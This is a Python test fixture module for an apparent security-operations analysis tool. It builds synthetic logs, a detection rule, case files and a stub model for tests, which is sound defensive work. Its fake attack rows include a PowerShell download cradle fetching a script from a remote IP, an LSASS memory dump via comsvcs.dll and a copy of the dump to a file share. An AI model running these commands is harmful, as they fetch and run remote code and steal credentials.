"""A case with an attack that a rule saw in part, and ordinary work; and a model that says what a test wants."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

import pyarrow as pa

from soc_analyst.state.entities import Entity, Reading, TimeWindow
from soc_analyst.state.findings import Detection, EvidenceRef, Rule
from soc_analyst.state.queries import Coverage
from soc_analyst.state.report import ModelCall
from soc_analyst.tools.attack import AttackCatalog
from soc_analyst.tools.evidence import Evidence, TableRows
from soc_analyst.tools.logs.tables import load_tables
from soc_analyst.tools.models.base import Answer, Request, Size
from soc_analyst.tools.privacy import Pseudonyms
from soc_analyst.tools.reasoning.base import Analysis, CaseFile
from soc_analyst.tools.reasoning.by_model.brief import Brief, build_brief
from soc_analyst.tools.reasoning.by_rules.analyst import RulesAnalyst

NOON = datetime(2026, 3, 4, 12, tzinfo=UTC)
PROCESSES, SIGNINS = "DeviceProcessEvents", "SigninLogs"
CRADLE = "powershell.exe -nop IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a.ps1')"
RULE = Rule(id="rule-cradle", title="PowerShell Download Cradle", level="high")
CATALOG = AttackCatalog.bundled()
HANDLES = {"cradle": 20, "dump": 21, "copy": 22}
"""Positions of the rows of the attack in the table of processes."""


def process(at: int, host: str, account: str, name: str, command: str) -> dict[str, Any]:
    return {
        "TimeGenerated": NOON + timedelta(minutes=at),
        "DeviceName": f"{host}.contoso.com",
        "AccountName": account,
        "FileName": name,
        "FolderPath": f"C:\\Windows\\System32\\{name}",
        "ProcessCommandLine": command,
        "ProcessId": 4000 + at,
        "SHA256": name.encode().hex().rjust(64, "0"),
    }


ORDINARY = [process(-90 + n, f"ws-{2 + n % 3}", "bob", "notepad.exe", f"notepad.exe report{n}.txt") for n in range(20)]
ATTACK = [
    process(1, "ws-1", "jdoe", "powershell.exe", CRADLE),
    process(4, "ws-1", "jdoe", "rundll32.exe", "rundll32.exe comsvcs.dll MiniDump 640 C:\\Temp\\l.dmp full"),
    process(9, "ws-1", "jdoe", "xcopy.exe", "xcopy.exe C:\\Temp\\l.dmp \\\\fs-9\\drop"),
]
FAILED = [
    {
        "TimeGenerated": NOON + timedelta(seconds=n),
        "UserPrincipalName": "carol@contoso.com",
        "IPAddress": "198.51.100.9",
        "ResultType": "50126" if n < 7 else "0",
        "AppDisplayName": "Office 365",
        "IsInteractive": True,
    }
    for n in range(8)
]


def evidence(processes: list[dict[str, Any]] | None = None) -> Evidence:
    own = pa.Table.from_pylist(processes or [*ORDINARY, *ATTACK])
    return Evidence(
        [
            TableRows.collect(PROCESSES, [("q1", own)]),
            TableRows.collect(SIGNINS, [("q2", pa.Table.from_pylist(FAILED))]),
        ]
    )


def case(*, detections: bool = True, rows: Evidence | None = None, in_window: int | None = None) -> CaseFile:
    held = rows or evidence()
    cradle = held[PROCESSES].ref(HANDLES["cradle"])
    fired = Detection(
        rule=RULE, statement="1 command line downloads and runs a script", techniques=("T1059.001",),
        tactics=("execution",), rows=(cradle,), entities=(Entity(kind="host", value="ws-1.contoso.com"),),
    )  # fmt: skip
    return CaseFile(
        reading=Reading(window=TimeWindow(start=NOON - timedelta(days=1), end=NOON + timedelta(hours=1))),
        evidence=held,
        detections=(fired,) if detections else (),
        coverage=tuple(Coverage(table=name, rows_in_window=in_window or len(held[name])) for name in held),
        tables=load_tables(),
        question="Anything suspicious today?",
    )


def floor(of: CaseFile) -> Analysis:
    return RulesAnalyst(CATALOG).analyse(of)


def tokens(text: str) -> int:
    return len(text) // 3


def brief_of(of: CaseFile, pseudonyms: Pseudonyms | None = None) -> Brief:
    return build_brief(of, budget=4_000, count=tokens, pseudonyms=pseudonyms or Pseudonyms.off())


def handle_of(brief: Brief, ref: EvidenceRef) -> str:
    """Return the handle of the group in which a row stands."""
    return next(handle for handle, group in brief.groups.items() if ref in group.refs)


def handle(of: CaseFile, name: str, table: str = PROCESSES) -> str:
    row = HANDLES.get(name, int(name) if name.isdigit() else 0)
    return handle_of(brief_of(of), of.evidence[table].ref(row))


@dataclass
class Model:
    """Answers each request by a function from the request to the fields of the answer; None is no answer."""

    says: Callable[[Request[Any]], dict[str, Any] | None]
    room: int = 100_000
    asked: list[Request[Any]] = field(default_factory=list)
    too_large_above: int = 10**9

    async def ask(self, request: Request[Any]) -> Answer[Any]:
        self.asked.append(request)
        call = ModelCall(node=request.node, model="test", input_tokens=10, output_tokens=5)
        if len(request.user) > self.too_large_above:
            return Answer(None, said=("too large for any model",), too_large=True)
        said = self.says(request)
        if said is None:
            return Answer(None, (call,), (f"The {request.purpose} was left to rules: the model answered 503.",))
        return Answer(request.answer.model_validate(said), (call,))

    async def size(self, _request: Request[Any]) -> Size:
        return Size(1_000, True, self.room)


def finding(*evidence: str, **more: Any) -> dict[str, Any]:
    return {
        "title": "Memory of LSASS was dumped",
        "description": "The tool comsvcs.dll wrote a dump.",
        "technique_id": "T1003.001",
        "confidence": "High",
        "recommendations": ["create incident"],
        "tags": ["credential-theft"],
        "notes": "",
        "indicators": [],
        "evidence": list(evidence),
        "claims": [],
        **more,
    }


def claim(kind: str, *handles: str, **more: Any) -> dict[str, Any]:
    nothing = {"table": None, "where": [], "column": None, "value": None, "count": None}
    return {"kind": kind, "handles": list(handles), **nothing, **more}


def where(column: str, op: str, *values: str) -> dict[str, Any]:
    return {"column": column, "op": op, "values": list(values)}


def hypothesis(statement: str, kind: str, status: str, *about: str, **more: Any) -> dict[str, Any]:
    return {
        "statement": statement,
        "kind": kind,
        "status": status,
        "about": list(about),
        "evidence": [],
        "claims": [],
        **more,
    }


def answer(*findings: dict[str, Any], hypotheses: tuple[dict[str, Any], ...] = ()) -> dict[str, Any]:
    return {"findings": list(findings), "hypotheses": list(hypotheses)}
